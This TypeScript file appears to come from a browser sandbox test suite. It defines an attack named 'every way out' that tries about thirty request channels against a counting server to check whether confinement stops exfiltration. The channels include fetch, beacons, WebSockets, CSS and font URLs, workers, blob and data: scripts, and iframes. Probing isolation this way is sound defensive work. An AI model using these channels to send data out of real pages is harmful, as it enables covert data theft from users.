import { type Arena, type Attack, blobScript, errorName, hit } from "../attack.ts";

type Channel = readonly [name: string, send: (arena: Arena) => unknown];

function element<K extends keyof HTMLElementTagNameMap>(tag: K, attributes: Record<string, string>): HTMLElementTagNameMap[K] {
  const node = document.createElement(tag);
  for (const [name, value] of Object.entries(attributes)) node.setAttribute(name, value);
  document.body.append(node);
  return node;
}

function link(rel: string, href: string, extra: Record<string, string> = {}): void {
  document.head.append(Object.assign(document.createElement("link"), { rel, href, ...extra }));
}

function style(text: string): void {
  document.head.append(Object.assign(document.createElement("style"), { textContent: text }));
}

function blobWorker(source: string): Worker {
  return new Worker(blobScript(source));
}

/**
 * Channels that leave the page where it is; windows, forms, refreshes and own navigation are in navigation.ts.
 * Not counted, because they make no request in a headless Chromium's frame even where nothing confines them: `rel=icon` (asked for by the
 * browser's own tab strip), speculation rules (main frames only), preconnect and dns-prefetch (no request by design), WebTransport (QUIC).
 */
const channels: readonly Channel[] = [
  ["fetch", (arena) => globalThis.fetch(hit(arena, "fetch"), { mode: "no-cors" })],
  [
    "xhr",
    (arena) => {
      const request = new XMLHttpRequest();
      request.open("GET", hit(arena, "xhr"));
      request.send();
    },
  ],
  ["image", (arena) => new Image().setAttribute("src", hit(arena, "image"))],
  ["beacon", (arena) => navigator.sendBeacon(hit(arena, "beacon"), "x")],
  ["websocket", (arena) => new WebSocket(hit(arena, "websocket", "ws:"))],
  ["eventsource", (arena) => new EventSource(hit(arena, "eventsource"))],
  [
    "ping",
    (arena) => {
      const anchor = element("a", { href: "#", ping: hit(arena, "ping") });
      anchor.click();
    },
  ],
  ["prefetch", (arena) => link("prefetch", hit(arena, "prefetch"))],
  ["preload", (arena) => link("preload", hit(arena, "preload"), { as: "image" })],
  ["modulepreload", (arena) => link("modulepreload", hit(arena, "modulepreload"))],
  ["stylesheet", (arena) => link("stylesheet", hit(arena, "stylesheet"))],
  ["poster", (arena) => element("video", { poster: hit(arena, "poster") })],
  ["audio", (arena) => element("audio", { src: hit(arena, "audio"), preload: "auto" })],
  ["iframe", (arena) => element("iframe", { src: hit(arena, "iframe") })],
  ["srcdoc", (arena) => element("iframe", { srcdoc: `<img src="${hit(arena, "srcdoc")}">` })],
  [
    "css-url",
    (arena) => {
      style(`.exfil { background: url("${hit(arena, "css-url")}") }`);
      element("div", { class: "exfil", style: "width: 9px; height: 9px" });
    },
  ],
  ["css-import", (arena) => style(`@import url("${hit(arena, "css-import")}");`)],
  [
    "font",
    (arena) => {
      style(`@font-face { font-family: exfil; src: url("${hit(arena, "font")}") }`);
      element("p", { style: "font-family: exfil" }).textContent = "x";
    },
  ],
  ["font-face", (arena) => new FontFace("exfil2", `url("${hit(arena, "font-face")}")`).load()],
  ["worker-fetch", (arena) => blobWorker(`fetch(${JSON.stringify(hit(arena, "worker-fetch"))}, { mode: "no-cors" })`)],
  ["import-scripts", (arena) => blobWorker(`importScripts(${JSON.stringify(hit(arena, "import-scripts"))})`)],
  ["worker-url", (arena) => new Worker(hit(arena, "worker-url"))],
  [
    "script",
    (arena) => {
      document.head.append(Object.assign(document.createElement("script"), { src: hit(arena, "script") }));
    },
  ],
  [
    "data-script",
    (arena) => {
      document.head.append(
        Object.assign(document.createElement("script"), {
          src: `data:text/javascript,new Image().src=${JSON.stringify(hit(arena, "data-script"))}`,
        }),
      );
    },
  ],
  ["object", (arena) => element("object", { data: hit(arena, "object"), width: "9", height: "9" })],
  ["embed", (arena) => element("embed", { src: hit(arena, "embed"), width: "9", height: "9" })],
  ["video", (arena) => element("video", { src: hit(arena, "video"), preload: "auto" })],
  // The build refuses computed imports; a blob module made at run time gets around the build, not around the policy.
  [
    "import",
    (arena) => {
      const source = `import(${JSON.stringify(hit(arena, "import"))})`;
      document.head.append(Object.assign(document.createElement("script"), { type: "module", src: blobScript(source) }));
    },
  ],
  ["preload-fetch", (arena) => element("link", { rel: "preload", as: "fetch", crossorigin: "", href: hit(arena, "preload-fetch") })],
  [
    "svg-use",
    (arena) => {
      const holder = element("div", {});
      holder.innerHTML = `<svg width="9" height="9"><image href="${hit(arena, "svg-use")}" width="9" height="9"/></svg>`;
    },
  ],
];

/** Names of all channels: the positive control checks that each one really hits where nothing confines it. */
export const channelNames: readonly string[] = channels.map(([name]) => name);

/** Tries the named channels and says what became of each attempt; what arrives, the counting server knows. */
export function tryChannels(arena: Arena, names: readonly string[]): string[] {
  return channels
    .filter(([name]) => names.includes(name))
    .map(([name, send]) => {
      try {
        // What a channel promises settles by itself, refused ones by a rejection that is no fault of this page.
        const sent = send(arena);
        if (sent instanceof Promise) sent.catch(() => undefined);
        return `${name}: attempted`;
      } catch (error) {
        return `${name}: ${errorName(error)}`;
      }
    });
}

/** S-06: one attack that tries every channel. */
export const exfiltrationAttacks: readonly Attack[] = [
  {
    id: "S-06",
    name: "every way out",
    run: async (arena) => ({
      gained: typeof globalThis.RTCPeerConnection === "function" ? ["RTCPeerConnection"] : [],
      evidence: tryChannels(arena, channelNames),
    }),
  },
];
